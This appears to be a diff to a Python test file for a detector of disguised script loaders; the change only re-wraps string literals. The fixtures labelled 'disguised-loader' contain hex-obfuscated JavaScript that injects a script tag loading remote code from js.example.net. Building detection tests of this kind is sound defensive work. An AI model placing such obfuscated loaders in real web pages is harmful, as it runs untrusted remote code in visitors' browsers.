@@ -13,7 +13,8 @@ from tests.signs.cases import restores, silent
         (
             "disguised-loader",
             (
-                '<script>window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x77\\x72\\x69\\x74\\x65"](\'<scr\'+\'ipt src'
+                '<script>window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x77\\x72\\x69\\x74\\x65"](\'<scr\'+'
+                "'ipt src"
                 "=\"https://js.example.net/tj.js\"></scr'+'ipt>');</script>\n"
             ),
         ),
@@ -35,7 +36,8 @@ from tests.signs.cases import restores, silent
         (
             "disguised-loader",
             (
-                '<script>var d=document,s=d["\\x63\\x72\\x65\\x61\\x74\\x65\\x45\\x6c\\x65\\x6d\\x65\\x6e\\x74"]("script'
+                '<script>var d=document,s=d["\\x63\\x72\\x65\\x61\\x74\\x65\\x45\\x6c\\x65\\x6d\\x65\\x6e\\x74"]('
+                '"script'
                 '");s["\\x73\\x72\\x63"]="https://js.example.net/c.js";d.head.appendChild(s);</script>\n'
             ),
         ),
